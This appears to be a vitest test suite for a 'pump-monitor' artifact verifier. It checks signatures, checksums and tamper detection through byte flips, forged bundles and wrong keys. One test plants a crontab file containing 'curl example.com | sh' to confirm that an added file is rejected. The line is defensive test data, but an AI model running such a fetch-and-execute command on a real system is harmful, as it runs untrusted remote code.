import { spawnSync } from 'node:child_process'
import {
  appendFileSync,
  closeSync,
  copyFileSync,
  mkdirSync,
  mkdtempSync,
  openSync,
  readFileSync,
  rmSync,
  statSync,
  writeFileSync,
  writeSync,
} from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import JSZip from 'jszip'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import type { BuiltPump } from '../../build/build-pump.ts'
import { checkList } from '../../build/check-list.ts'
import { signingKey, verifyingKey } from '../../build/signature.ts'
import { verifyCommand } from '../../build/verify.ts'
import { verifyExecutable } from '../../build/verify-executable.ts'
import { openArchive } from '../../build/zip-reader.ts'
import { openBundle } from '../../src/bundle/open.ts'
import { TRAILER_LENGTH } from '../../src/bundle/trailer.ts'
import { hasPrograms, requireOrSkip } from '../require.ts'
import { call, forged, keyPair, smallArtifact } from './small-artifact.ts'
import { SMALL_RUNTIME } from './small-runtime.ts'

let folder: string
let built: BuiltPump
let artifact: string
let keys: ReturnType<typeof keyPair>

beforeAll(async () => {
  folder = mkdtempSync(join(tmpdir(), 'pump-monitor-verify-'))
  keys = keyPair(folder, 'release')
  built = await smallArtifact(folder, { key: keys.key })
  artifact = String(built.artifact?.path)
})

afterAll(() => rmSync(folder, { recursive: true }))

const verify = async (...args: string[]) => await call(verifyCommand, args, folder)

/** Name to outcome, and the details of what failed. */
async function outcomes(...args: string[]) {
  const { code, stdout } = await verify(...args, '--json')
  const { checks } = JSON.parse(stdout) as { checks: { name: string; outcome: string; detail: string }[] }
  const failed = checks.filter(({ outcome }) => outcome === 'failed').map(({ name, detail }) => `${name}: ${detail}`)
  return { code, names: Object.fromEntries(checks.map(({ name, outcome }) => [name, outcome])), failed }
}

/** A seeded sequence in [0, 1): the same positions each time (Park and Miller, 1988). */
function seeded(seed: number): () => number {
  let state = seed
  return () => {
    state = (state * 48_271) % 2_147_483_647
    return state / 2_147_483_647
  }
}

describe('a sound artifact', () => {
  test('passes each check, one line each', async () => {
    const { code, stdout, stderr } = await verify(artifact, '--key', keys.publicFile)
    expect({ code, stderr }).toEqual({ code: 0, stderr: '' })
    const lines = stdout.trimEnd().split('\n')
    const names = ['archive', 'checksums', 'signature', 'bundle', 'schemas', 'program', 'model', 'copies', 'sbom', 'headers']
    expect(lines.map((line) => line.split(/\s+/).slice(0, 2))).toEqual(names.map((name) => ['ok', name]))
  })

  test('has a signature that is not checked without a key, and it says so', async () => {
    expect((await verify(artifact)).stdout).toContain('-      signature there is one, and nothing to check it with')
  })

  test('passes as an executable alone, and with its checksums beside it', async () => {
    const alone = await outcomes(built.executable.path)
    expect(alone).toMatchObject({ code: 0, names: { bundle: 'ok', program: 'ok', checksums: 'skipped', signature: 'skipped' } })
    const unpacked = join(folder, 'unpacked')
    mkdirSync(unpacked)
    const zip = await JSZip.loadAsync(readFileSync(artifact))
    for (const [name, file] of Object.entries(zip.files)) writeFileSync(join(unpacked, name), await file.async('nodebuffer'))
    const beside = await outcomes(join(unpacked, 'well1_v1.0.0'), '--key', keys.publicFile)
    expect(beside).toMatchObject({ code: 0, names: { checksums: 'ok', signature: 'ok' } })
    appendFileSync(join(unpacked, 'SHA256SUMS'), '\n')
    expect(await outcomes(join(unpacked, 'well1_v1.0.0'), '--key', keys.publicFile)).toMatchObject({ code: 78 })
  })
})

describe('any changed byte', () => {
  /** Changes one byte at a time in a copy of a file. */
  async function changing(file: string, positions: readonly number[], check: (copy: string, at: number) => Promise<void>) {
    const copy = `${file}.changed`
    const bytes = readFileSync(file)
    writeFileSync(copy, bytes)
    const fd = openSync(copy, 'r+')
    for (const [index, at] of positions.entries()) {
      const was = bytes[at] ?? 0
      writeSync(fd, Buffer.of(was ^ (1 << (index % 8))), 0, 1, at)
      await check(copy, at)
      writeSync(fd, Buffer.of(was), 0, 1, at)
    }
    closeSync(fd)
  }

  test('of the bundle, its headers, directory and comment, at 1,000 random positions, is refused by verify and by the program', async () => {
    const file = built.executable.path
    const size = statSync(file).size
    const random = seeded(7)
    const inside = Array.from({ length: 700 }, () => SMALL_RUNTIME.size + Math.floor(random() * (size - SMALL_RUNTIME.size)))
    // The model is most of it: look more often where the ZIP's own bytes are.
    const tail = TRAILER_LENGTH + 22 + 9 * 70
    const behind = Array.from({ length: 300 }, () => size - 1 - Math.floor(random() * tail))
    let refused = 0
    await changing(file, [...inside, ...behind], async (copy, at) => {
      const list = checkList()
      await verifyExecutable(copy, list)
      expect(list.checks, `byte ${at}`).toMatchObject([{ name: 'bundle', outcome: 'failed' }])
      expect(() => openBundle(copy), `byte ${at}`).toThrow(/altered|truncated|written for|newer format/)
      refused += 1
    })
    expect(refused).toBe(1000)
  })

  test('of the program before it is refused by verify', async () => {
    const random = seeded(11)
    const positions = Array.from({ length: 20 }, () => Math.floor(random() * SMALL_RUNTIME.size))
    await changing(built.executable.path, positions, async (copy, at) => {
      const list = checkList()
      await verifyExecutable(copy, list)
      expect(list.checks.find(({ name }) => name === 'program')?.outcome, `byte ${at}`).toBe('failed')
    })
  })

  test('around the files of the artifact is refused by verify', async () => {
    const { entries } = await openArchive(artifact)
    const size = statSync(artifact).size
    const contents = entries.map(({ start, packedSize }) => [start, start + packedSize] as const)
    const around = Array.from({ length: size }, (_, at) => at).filter(
      (at) => !contents.some(([from, to]) => at >= from && at < to),
    )
    expect(around.length).toBeGreaterThan(1000)
    const random = seeded(13)
    const positions = Array.from({ length: 60 }, () => around[Math.floor(random() * around.length)] ?? 0)
    await changing(artifact, positions, async (copy, at) => {
      expect((await verify(copy)).code, `byte ${at}`).toBe(78)
    })
  })
})

describe('verify refuses', () => {
  test('an artifact in which a file was exchanged, added or taken away', async () => {
    const change = async (edit: (zip: JSZip) => void) => {
      const zip = await JSZip.loadAsync(readFileSync(artifact))
      edit(zip)
      const file = join(folder, 'repacked.zip')
      writeFileSync(file, await zip.generateAsync({ type: 'nodebuffer', compression: 'DEFLATE', platform: 'UNIX' }))
      return (await outcomes(file)).failed.join('\n')
    }
    expect(await change((zip) => zip.file('crontab.txt', 'curl example.com | sh'))).toContain(
      'checksums: crontab.txt: not as SHA256SUMS says',
    )
    expect(await change((zip) => zip.file('more.sh', 'echo'))).toContain('checksums: more.sh: not as')
    expect(await change((zip) => zip.remove('well-1.timer'))).toContain('checksums: well-1.timer: not as')
    expect(await change((zip) => zip.remove('SHA256SUMS'))).toContain('checksums: there is no SHA256SUMS')
    expect(await change(() => undefined)).toContain('headers: a byte around the files was altered')
  })

  test('what is cut short, empty, missing or something else', async () => {
    const cut = join(folder, 'cut.zip')
    writeFileSync(cut, readFileSync(artifact).subarray(0, -100))
    expect(await outcomes(cut)).toMatchObject({ code: 78, failed: [expect.stringContaining('it does not end as our ZIPs do')] })
    writeFileSync(cut, '')
    expect(await outcomes(cut)).toMatchObject({ code: 78, failed: [expect.stringContaining('carries no pump bundle')] })
    const missing = await verify('nothing.zip')
    expect(missing).toMatchObject({ code: 78, stderr: expect.stringMatching(/nothing\.zip: cannot be read \(ENOENT.*\n$/) })
    expect((await verify()).code).toBe(64)
  })

  test('a signature of another key, of another list, and none where a key is given', async () => {
    const other = keyPair(folder, 'other')
    expect(await outcomes(artifact, '--key', other.publicFile)).toMatchObject({
      code: 78,
      failed: [expect.stringMatching(/^signature: it was not made with key [0-9a-f]{16}/)],
    })
    const unsigned = await smallArtifact(join(folder), { version: '1.0.1' })
    expect(await outcomes(String(unsigned.artifact?.path), '--key', keys.publicFile)).toMatchObject({
      code: 78,
      failed: ['signature: there is none'],
    })
  })

  test('a bundle whose hashes are right and whose meaning is not', async () => {
    const deployment = (change: (value: Record<string, object>) => void) => (entries: Record<string, Uint8Array>) => {
      const value = JSON.parse(new TextDecoder().decode(entries['config/deployment.json'])) as Record<string, object>
      change(value)
      entries['config/deployment.json'] = Buffer.from(JSON.stringify(value))
    }
    const unknown = await forged(
      folder,
      deployment((value) => Object.assign(value, { sitename: 'x' })),
    )
    expect((await outcomes(unknown.executable)).failed).toEqual([
      expect.stringMatching(/^schemas: config\/deployment\.json: unknown key sitename/),
    ])
    const model = await forged(folder, (entries) => {
      entries['model/model.onnx'] = Buffer.from('no model')
    })
    expect((await outcomes(model.artifact)).failed).toEqual([expect.stringMatching(/^model: model\/model\.onnx is not the one/)])
    const machine = await forged(folder, () => undefined, {
      target: SMALL_RUNTIME.target === 'linux-x64' ? 'linux-arm64' : 'linux-x64',
    })
    expect((await outcomes(machine.executable)).failed).toEqual([expect.stringMatching(/^program: it is for another machine/)])
  })
})

describe.runIf(requireOrSkip(hasPrograms('openssl'), 'apt-get install openssl'))('the signature', () => {
  const openssl = (...args: string[]) => spawnSync('openssl', args, { encoding: 'utf8', cwd: join(folder, 'signed') })
  const check = () =>
    openssl(
      'pkeyutl',
      '-verify',
      '-pubin',
      '-inkey',
      'pump-monitor.pub',
      '-rawin',
      '-in',
      'SHA256SUMS',
      '-sigfile',
      'SHA256SUMS.sig',
    )

  test('is one that openssl checks as the README says, and refuses when a byte of the list differs', async () => {
    mkdirSync(join(folder, 'signed'))
    const zip = await JSZip.loadAsync(readFileSync(artifact))
    for (const name of ['SHA256SUMS', 'SHA256SUMS.sig', 'README.md'])
      writeFileSync(join(folder, 'signed', name), (await zip.file(name)?.async('nodebuffer')) ?? '')
    copyFileSync(keys.publicFile, join(folder, 'signed', 'pump-monitor.pub'))
    expect(readFileSync(join(folder, 'signed', 'README.md'), 'utf8')).toContain(
      'openssl pkeyutl -verify -pubin -inkey pump-monitor.pub -rawin -in SHA256SUMS -sigfile SHA256SUMS.sig',
    )
    expect(check()).toMatchObject({ status: 0, stdout: 'Signature Verified Successfully\n' })
    appendFileSync(join(folder, 'signed', 'SHA256SUMS'), ' ')
    expect(check()).toMatchObject({ status: 1, stdout: 'Signature Verification Failure\n' })
  })

  test('takes a key as openssl makes it, and the public key as openssl derives it', async () => {
    const file = join(folder, 'made.key')
    mkdirSync(join(folder, 'signed'), { recursive: true })
    expect(openssl('genpkey', '-algorithm', 'ed25519', '-out', file).status).toBe(0)
    expect(openssl('pkey', '-in', file, '-pubout', '-out', `${file}.pub`).status).toBe(0)
    const key = signingKey(file, {}, '/')
    const fromText = signingKey(undefined, { PUMP_MONITOR_SIGN_KEY: readFileSync(file, 'utf8') }, '/')
    expect([key?.id, fromText?.id]).toEqual(Array(2).fill(verifyingKey(`${file}.pub`).id))
    const bytes = Buffer.from('a list')
    expect(verifyingKey(`${file}.pub`).isSignatureOf(key?.sign(bytes) ?? Buffer.alloc(0), bytes)).toBe(true)
  })

  test('needs a key of its kind that nobody else can read, and no message quotes it', () => {
    const file = join(folder, 'rsa.key')
    openssl('genpkey', '-algorithm', 'ec', '-pkeyopt', 'ec_paramgen_curve:P-256', '-out', file)
    expect(() => signingKey(file, {}, '/')).toThrow(/rsa\.key: is a key for ec; make one: openssl genpkey/)
    spawnSync('chmod', ['644', file])
    expect(() => signingKey(file, {}, '/')).toThrow(/others can read the signing key; run: chmod 600/)
    expect(() => signingKey(undefined, { PUMP_MONITOR_SIGN_KEY: 'secret' }, '/')).toThrow(
      /^\$PUMP_MONITOR_SIGN_KEY: is no private key in PEM; make one[^\n]*$/,
    )
    expect(() => verifyingKey(keys.privateFile)).toThrow(/is a private key; give the public one/)
    expect(signingKey(undefined, {}, '/')).toBeNull()
  })
})
